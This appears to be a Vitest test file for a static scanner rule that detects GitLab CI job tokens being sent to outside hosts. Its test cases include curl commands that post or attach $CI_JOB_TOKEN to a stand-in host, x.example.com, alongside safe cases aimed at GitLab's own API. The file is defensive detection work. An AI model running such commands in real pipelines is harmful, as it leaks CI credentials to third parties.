import { expect, it } from 'vitest';
import { briefly, findingsOf } from '../../testing/scan-text.ts';

const check = (...lines: string[]) =>
  briefly(
    findingsOf(
      'gitlab-job-token-exposure',
      `# --- .gitlab-ci.yml\na:\n  script:\n    - |\n${lines.map((line) => `      ${line}\n`).join('')}`,
    ),
  );

it.each([
  [['curl -d "t=${CI_JOB_TOKEN}" https://x.example.com'], ['4 high regular']],
  [['curl -H "A: $CI_JOB_TOKEN" \\', '  https://x.example.com/a'], ['4 high regular']],
  [['curl -H "A: $CI_JOB_TOKEN" "$CI_API_V4_URL/a"', 'curl https://x.example.com'], []],
  [['docker login -u a -p $CI_JOB_TOKEN images.example.com'], []],
  [['curl -H "A: $CI_JOB_TOKEN" "${CI_SERVER_URL}/a"'], []],
])('judges %s', (lines, expected) => {
  expect(check(...lines)).toEqual(expected);
});
